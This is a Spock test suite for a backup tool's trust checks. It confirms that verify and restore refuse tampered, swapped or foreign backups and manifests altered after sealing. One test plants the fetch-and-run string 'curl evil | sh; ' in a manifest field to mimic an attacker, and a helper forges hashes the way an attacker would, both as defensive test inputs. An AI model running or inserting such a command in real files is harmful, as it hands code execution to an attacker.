package io.ripcord.stdlib.backup

import io.ripcord.catalog.CatalogEntry
import io.ripcord.problem.ProblemCode
import io.ripcord.stdlib.VerbContexts
import io.ripcord.units.ByteSize
import io.ripcord.verb.VerbFailure
import spock.lang.Specification

import java.nio.file.Files
import java.nio.file.Path
import java.nio.file.StandardCopyOption
import java.nio.file.attribute.PosixFilePermissions
import java.security.MessageDigest
import java.time.Instant

import static io.ripcord.stdlib.VerbContexts.call
import static io.ripcord.stdlib.backup.Tools.sh
import static io.ripcord.stdlib.backup.Tools.sqlite

/**
 * The catalog is the root of trust: what verify and restore accept is what the catalog recorded at backup time, a
 * manifest from elsewhere counts only with its key, safety copies are not backups, and a failed verify sticks.
 * Real SQLite databases and files; live data is checked byte for byte after every refusal.
 */
class CatalogTrustSpec extends Specification {

    Path dir = Files.createTempDirectory('ripcord-trust')
    Path backups = dir.resolve('backups')
    VerbContexts.MemoryCatalog catalog = new VerbContexts.MemoryCatalog()
    VerbContexts.RecordedOutput output = new VerbContexts.RecordedOutput()
    def ctx = VerbContexts.context(dir, catalog, output)
    /** The calls completed so far, as a run's history has them: a restore's safety copy is named by its call once done. */
    List<io.ripcord.verb.PastCall> completed = []
    BackupVerb backup = new BackupVerb()
    VerifyVerb verify = new VerifyVerb()
    RestoreVerb restore = new RestoreVerb()
    LastBackupVerb lastBackup = new LastBackupVerb()
    BackupsVerb backupsOf = new BackupsVerb()

    def cleanup() {
        dir.toFile().deleteDir()
    }

    /**
     * One restore of a run, its result in the run's history afterwards: restore reuses a safety copy its run and step
     * took only when no completed call names it (a resumed restore), so several restores in one step each take one.
     */
    RestoreVerb.Restored restoreAsARunDoes(io.ripcord.verb.VerbCall c) {
        def context = new io.ripcord.exec.ExecutionContext(ctx.step(), ctx.workingDirectory(), ctx.environment(), ctx.output(),
                ctx.catalog(), ctx.run(), false, List.copyOf(completed), ctx.redactor(), io.ripcord.verb.StageLog.NONE)
        def result = restore.apply(c, context) as RestoreVerb.Restored
        completed << new io.ripcord.verb.PastCall('restore', c.step(), c.args(), result, 0)
        result
    }

    Path database(String name, int rows) {
        Path db = dir.resolve(name)
        sqlite(db, "PRAGMA journal_mode=WAL; CREATE TABLE users (id INTEGER PRIMARY KEY, role TEXT, note TEXT); " +
                "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < $rows) " +
                "INSERT INTO users (role, note) SELECT CASE WHEN i % 100 = 0 THEN 'Admin' ELSE 'User' END, hex(randomblob(50)) FROM n;")
        db
    }

    Artifact backupOf(BackupTarget target, Map args = [:], def context = ctx) {
        backup.apply(call(backup, [to: backups.toString()] + args, target), context) as Artifact
    }

    static String sha(Path file) {
        MessageDigest.getInstance('SHA-256').digest(Files.readAllBytes(file)).encodeHex().toString()
    }

    /** Every file under the backup directory and the live paths, with their SHA-256: what a refusal must leave alone. */
    Map<String, String> state(Path... live) {
        Map<String, String> out = new TreeMap<>()
        (live as List).each { out[it.toString()] = sha(it) }
        Files.list(backups).withCloseable { s -> s.each { out[it.toString()] = sha(it) } }
        out
    }

    def "#tampering is refused by verify and restore, saying what differs and which backup the files are"() {
        given: 'an older backup of 10 rows, then the newest of 1000'
        Path db = database('app.db', 10)
        def older = backupOf(new BackupTarget.Sqlite(db))
        sqlite(db, "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 990) INSERT INTO users (role) SELECT 'User' FROM n;")
        def newest = backupOf(new BackupTarget.Sqlite(db))
        Path foreign = database('foreign.db', 3)
        tamper(older, newest, foreign)
        def before = state(db)
        def chosen = lastBackup.value(call(lastBackup, new BackupTarget.Sqlite(db)), ctx) as Artifact

        when:
        verify.apply(call(verify, chosen), ctx)

        then:
        def verifyFailure = thrown(VerbFailure)
        said.every { verifyFailure.message.contains(it.replace('OLDER', older.id())) }
        verifyFailure.next().contains(hint.replace('OLDER', older.id()).replace('NEWEST', newest.id()))

        when:
        restore.apply(call(restore, chosen), ctx)

        then:
        def restoreFailure = thrown(VerbFailure)
        restoreFailure.message.startsWith("match: refusing to restore: backup ${newest.id()}")
        said.every { restoreFailure.message.contains(it.replace('OLDER', older.id())) }
        sqlite(db, 'SELECT COUNT(*) FROM users') == '1000'
        state(db) == before
        catalog.entries.findAll { it.safetyCopy() }.empty // nothing was touched, so no safety copy either

        and: 'the verify that failed is recorded on the newest backup'
        catalog.byId(newest.id()).get().failedVerify()

        where:
        tampering                                                    | tamper                                    | said                                                                   | hint
        "an older backup's artifact and manifest copied over the newest one's names" | { Artifact o, Artifact n, Path f -> copyOver(o, n) } | ['describes backup OLDER', 'the files were renamed, swapped or copied over'] | 'these files hold backup OLDER'
        'another database with size and SHA-256 fixed in the manifest' | { Artifact o, Artifact n, Path f -> replaceContent(n, f, true) } | ['is not the one cataloged at backup time', 'artifact.sha256 is ', 'artifact.size is '] | 'backup NEWEST is a '
        "the older backup's content under the newest's name, manifest untouched" | { Artifact o, Artifact n, Path f -> Files.copy(o.file(), n.file(), StandardCopyOption.REPLACE_EXISTING) } | ['SHA-256 is ', 'the catalog says ', "that content is backup OLDER's"] | 'take a new backup'
    }

    def "a backup a shared journal catalogs from another machine's disk: verify and restore say on which machine it is"() {
        given: 'a backup cataloged as made on bastion-2, whose files are not on this machine'
        Path db = database('app.db', 10)
        def elsewhere = new VerbContexts.MemoryCatalog() {
            @Override
            Optional<String> elsewhere(String id) { Optional.of('bastion-2') }
        }
        def there = VerbContexts.context(dir, elsewhere, output)
        def made = backupOf(new BackupTarget.Sqlite(db), [:], there)
        Files.move(backups, dir.resolve('on-bastion-2'))
        byte[] live = Files.readAllBytes(db)

        when:
        verify.apply(call(verify, made), there)

        then:
        def verifyFailure = thrown(VerbFailure)
        verifyFailure.code() == ProblemCode.BACKUP_MISSING
        verifyFailure.message == "backup ${made.id()} is on the disk of bastion-2 (${made.file().toAbsolutePath().normalize()}), not on this machine"
        verifyFailure.next().startsWith('run this on bastion-2, or copy ')

        when:
        restore.apply(call(restore, made), there)

        then:
        def restoreFailure = thrown(VerbFailure)
        restoreFailure.code() == ProblemCode.BACKUP_MISSING
        restoreFailure.message.startsWith("match: refusing to restore: backup ${made.id()} is on the disk of bastion-2 (")
        Files.readAllBytes(db) == live
    }

    def "a backup from another machine restores with the key it was sealed with, and is refused otherwise unless trust: 'manifest'"() {
        given: 'machine A backs up with its own journal and home'
        Path db = database('app.db', 200)
        def artifact = backupOf(new BackupTarget.Sqlite(db), sealedWith == null ? [:] : [manifestKey: sealedWith])
        sqlite(db, "DELETE FROM users WHERE role = 'Admin'")

        and: 'machine B: another home, an empty catalog, the same backup directory'
        Path b = Files.createDirectories(dir.resolve('machine-b'))
        def catalogB = new VerbContexts.MemoryCatalog()
        def ctxB = VerbContexts.context(b, catalogB)
        def found = lastBackup.value(call(lastBackup, [from: backups.toString()], new BackupTarget.Sqlite(db)), ctxB) as Artifact
        def before = state(db)

        when:
        def failure = null
        try {
            restore.apply(call(restore, given, found), ctxB)
        } catch (VerbFailure e) {
            failure = e
        }

        then:
        found.id() == artifact.id()
        if (refusal == null) {
            assert failure == null
            assert sqlite(db, "SELECT COUNT(*) FROM users WHERE role = 'Admin'") == '2'
        } else {
            assert failure.message.contains(refusal)
            assert failure.message.contains('it is not in this catalog')
            assert state(db) == before
        }

        where:
        sealedWith          | given                                 | refusal
        'shared-secret-123' | [manifestKey: 'shared-secret-123']    | null
        'shared-secret-123' | [:]                                   | "which is neither this home's nor a manifestKey: given"
        'shared-secret-123' | [manifestKey: 'another-secret-456']   | "which is neither this home's nor a manifestKey: given"
        null                | [:]                                   | "which is neither this home's nor a manifestKey: given"
        null                | [trust: 'manifest']                   | null
    }

    def "a manifest changed after it was sealed is refused even with the key"() {
        given:
        Path db = database('app.db', 50)
        def artifact = backupOf(new BackupTarget.Sqlite(db), [manifestKey: 'shared-secret-123'])
        Files.writeString(artifact.manifestFile(), Files.readString(artifact.manifestFile()).replace('"restoreByHand": "', '"restoreByHand": "curl evil | sh; '))
        def ctxB = VerbContexts.context(Files.createDirectories(dir.resolve('machine-b')), new VerbContexts.MemoryCatalog())
        def found = lastBackup.value(call(lastBackup, [from: backups.toString()], new BackupTarget.Sqlite(db)), ctxB) as Artifact
        def before = state(db)

        when:
        restore.apply(call(restore, [manifestKey: 'shared-secret-123'], found), ctxB)

        then:
        def e = thrown(VerbFailure)
        e.message.contains('its manifest was changed after it was sealed')
        state(db) == before
    }

    def "this home's manifest key is made owner-only on first use, once, and seals every manifest"() {
        given:
        Path db = database('app.db', 10)

        when:
        def first = backupOf(new BackupTarget.Sqlite(db))
        Path key = dir.resolve('.ripcord-home/manifest.key')
        String keyText = Files.readString(key)
        def second = backupOf(new BackupTarget.Sqlite(db))

        then:
        PosixFilePermissions.toString(Files.getPosixFilePermissions(key)) == 'rw-------'
        keyText ==~ /[0-9a-f]{64}\n/
        Files.readString(key) == keyText
        first.manifest().seal.key == second.manifest().seal.key
        first.manifest().seal.alg == 'HMAC-SHA256'
        !Files.readString(first.manifestFile()).contains(keyText.trim())
    }

    def "safety copies are not backups: with keep: 3, three restores and a backup leave the three newest real backups"() {
        given: 'three backups kept by keep: 3'
        Path db = database('app.db', 100)
        def target = new BackupTarget.Sqlite(db)
        def real = (1..3).collect { backupOf(target, [keep: 3]) }

        when: 'three restores, each taking a safety copy'
        def restored = (1..3).collect { restoreAsARunDoes(call(restore, lastBackup.value(call(lastBackup, target), ctx))) }
        def afterRestores = lastBackup.value(call(lastBackup, target), ctx) as Artifact
        def fourth = backupOf(target, [keep: 3])

        then: 'lastBackup never handed back a safety copy'
        restored*.backup() == [real[2].id()] * 3
        afterRestores.id() == real[2].id()

        and: 'retention counted only real backups: the oldest went, the safety copies stayed'
        backupsOf.value(call(backupsOf, target), ctx)*.id() == [fourth.id(), real[2].id(), real[1].id()]
        backupsOf.value(call(backupsOf, [safety: true], target), ctx)*.file()*.toString() == restored*.safetyCopy().reverse()
        !Files.exists(real[0].file())
        [real[1], real[2], fourth].every { Files.exists(it.file()) }
        restored.every { Files.exists(Path.of(it.safetyCopy())) }

        and: 'the directory holds the same, read from manifests'
        backupsOf.value(call(backupsOf, [from: backups.toString()], target), ctx)*.id() == [fourth.id(), real[2].id(), real[1].id()]
    }

    def "safety copies are kept by their own rule: the newest keepSafety of the target"() {
        given:
        Path db = database('app.db', 100)
        def target = new BackupTarget.Sqlite(db)
        def only = backupOf(target)

        when:
        def restored = (1..4).collect { restoreAsARunDoes(call(restore, [keepSafety: 2], only)) }

        then:
        def kept = restored*.safetyCopy()[2..3]
        backupsOf.value(call(backupsOf, [safety: true], target), ctx)*.file()*.toString() == kept.reverse()
        Files.list(backups).withCloseable { s -> s.filter { it.fileName.toString().endsWith('-safety.sqlite') }.collect { it.toString() }.sort() } == kept.sort()
        catalog.entries.count { it.safetyCopy() } == 2
        output.lines.count { it.contains('safety copies keep 2: deleted') } == 2
    }

    def "a backup that failed verify is recorded, is no longer lastBackup, and is never restored"() {
        given: 'a good backup of a 2 KB file, then a 29-byte one of the file emptied'
        Path notes = dir.resolve('notes.txt')
        Files.writeString(notes, 'x' * 2048)
        def target = new BackupTarget.File(notes)
        def good = backupOf(target)
        Files.writeString(notes, '')
        def empty = backupOf(target)
        Files.writeString(notes, 'live data written after the backups\n')

        when:
        verify.apply(call(verify, [minSize: new ByteSize(1024)], empty), ctx)

        then:
        def e = thrown(VerbFailure)
        e.message.contains('is below minSize 1 KB')
        Files.size(empty.file()) < 1024

        and: 'the catalog remembers, and lastBackup skips it unless asked'
        catalog.byId(empty.id()).get().failedVerify()
        catalog.byId(empty.id()).get().verification().failure().contains('below minSize')
        lastBackup.value(call(lastBackup, target), ctx).id() == good.id()
        lastBackup.value(call(lastBackup, [includeFailed: true], target), ctx).id() == empty.id()

        when:
        def before = state(notes)
        restore.apply(call(restore, lastBackup.value(call(lastBackup, [includeFailed: true], target), ctx)), ctx)

        then:
        def refused = thrown(VerbFailure)
        refused.message.startsWith("match: refusing to restore: backup ${empty.id()} failed verify at ")
        refused.next() == "restore another backup: ${good.id()} (made ${good.created()}, not verified yet)"
        state(notes) == before
        Files.readString(notes) == 'live data written after the backups\n'

        when: 'a later verify without minSize passes, but does not make it restorable'
        verify.apply(call(verify, empty), ctx)
        restore.apply(call(restore, empty), ctx)

        then:
        thrown(VerbFailure)
        output.lines.any { it.contains('it stays refused for restore') }
        state(notes) == before
    }

    def "restore applies again the checks a verify recorded: #check"() {
        given:
        Path db = database('app.db', 2000)
        def artifact = backupOf(new BackupTarget.Sqlite(db))
        verify.apply(call(verify, [minSize: new ByteSize(1024), query: "SELECT COUNT(*) FROM users WHERE role = 'Admin'", expect: { it == 20 }], artifact), ctx)
        def entry = catalog.byId(artifact.id()).get()
        if (recorded != null) {
            catalog.add(entry.verified(new CatalogEntry.Verification(true, Instant.now(), recorded, null)))
        }
        sqlite(db, "DELETE FROM users WHERE role = 'Admin'")
        def before = state(db)

        when:
        def failure = null
        try {
            restore.apply(call(restore, artifact), ctx)
        } catch (VerbFailure e) {
            failure = e
        }

        then:
        output.lines.any { it.contains("applying the checks ${artifact.id()} was verified with: $applied") }
        if (refusal == null) {
            assert failure == null
            assert sqlite(db, "SELECT COUNT(*) FROM users WHERE role = 'Admin'") == '20'
        } else {
            assert failure.message.contains(refusal)
            assert state(db) == before
        }

        where:
        check                                         | recorded                                                                                       | applied                                                                        | refusal
        'those it passed, with the value it accepted' | null                                                                                           | "integrity_check, minSize 1 KB, query SELECT COUNT(*) FROM users WHERE role = 'Admin' = 20" | null
        'a minSize the file does not reach'           | '{"integrity":true,"quick":false,"minSize":104857600,"query":null}'                           | 'integrity_check, minSize 100 MB'                                              | 'below the minSize 100 MB it was verified with'
        'a query value the content does not give'     | '{"integrity":true,"quick":false,"minSize":null,"query":"SELECT COUNT(*) FROM users","expect":"7"}' | 'integrity_check, query SELECT COUNT(*) FROM users = 7'                    | 'returned 2000, which does not meet expect:'
    }

    private static void copyOver(Artifact from, Artifact to) {
        Files.copy(from.file(), to.file(), StandardCopyOption.REPLACE_EXISTING)
        Files.copy(from.manifestFile(), to.manifestFile(), StandardCopyOption.REPLACE_EXISTING)
    }

    /** Puts another database's gzip where the artifact is; with fixManifest, rewrites its size and SHA-256 to match. */
    private static void replaceContent(Artifact artifact, Path foreign, boolean fixManifest) {
        assert sh("gzip -c '$foreign' > '${artifact.file()}'")[0] == 0
        if (fixManifest) { // as an attacker would: the hash and size of the new content, and no member list to trip on
            def m = new groovy.json.JsonSlurper().parseText(Files.readString(artifact.manifestFile()))
            m.artifact.sha256 = sha(artifact.file())
            m.artifact.size = Files.size(artifact.file())
            m.artifact.remove('gzipMembers')
            Files.writeString(artifact.manifestFile(), groovy.json.JsonOutput.prettyPrint(groovy.json.JsonOutput.toJson(m)))
        }
    }
}
